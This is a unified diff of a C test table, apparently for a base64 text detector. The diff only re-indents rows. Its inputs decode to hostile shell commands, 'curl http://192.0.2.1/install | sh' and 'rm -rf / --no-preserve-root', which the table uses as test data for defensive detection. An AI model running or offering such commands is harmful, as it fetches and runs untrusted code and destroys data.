@@ -21,12 +21,12 @@ static const struct row {
     { "base64 of the other alphabet",        "Pj4-Pz8_IHJtIC1yZiAvIA",                                                          AIS_TEXT_BASE64, ">>>??? rm -rf / "           },
     { "base64 wrapped by its tool",
      "echo "
-     "'Y3VybCBodHRwOi8vMTkyLjAuMi4xL2luc3RhbGwgfCBzaDsgcm0gLXJmIC8gLS1uby1wcmVzZXJ2\\nZS1yb290OyBlY2hvIG5vYm9keSB3aWxs"
-     "IHJlYWQgYXMgZmFyIGFzIHRoaXMgbGluZQ==' | base64 -d",                                                                       AIS_TEXT_BASE64,
+      "'Y3VybCBodHRwOi8vMTkyLjAuMi4xL2luc3RhbGwgfCBzaDsgcm0gLXJmIC8gLS1uby1wcmVzZXJ2\\nZS1yb290OyBlY2hvIG5vYm9keSB3aWxs"
+      "IHJlYWQgYXMgZmFyIGFzIHRoaXMgbGluZQ==' | base64 -d",                                                                      AIS_TEXT_BASE64,
      "curl http://192.0.2.1/install | sh; rm -rf / --no-preserve-root; echo nobody will read as far as this line"                                                             },
     { "base64 wrapped as in a letter",
      "Y3VybCBodHRwOi8vMTkyLjAuMi4xL2luc3RhbGwgfCBzaDsgcm0gLXJmIC8gLS1u\\r\\nby1wcmVzZXJ2ZS1yb290OyBlY2hvIG5vYm9keSB3aW"
-     "xsIHJlYWQgYXMgZmFyIGFz\\r\\nIHRoaXMgbGluZQ==",                                                                            AIS_TEXT_BASE64,
+      "xsIHJlYWQgYXMgZmFyIGFz\\r\\nIHRoaXMgbGluZQ==",                                                                           AIS_TEXT_BASE64,
      "curl http://192.0.2.1/install | sh; rm -rf / --no-preserve-root; echo nobody will read as far as this line"                                                             },
     { "base64 in short lines",               "cm0gLXJm\\n  IC94OyBl\\n  Y2hvIGRv\\n  bmU=",                                     AIS_TEXT_BASE64, "rm -rf /x; echo done"       },
     { "base64 in uneven lines",              "cm0\\ngLXJmI\\nC94OyB\\nlY2hvIGRvbmU=",                                           AIS_TEXT_BASE64, "rm -rf /x; echo done"       },
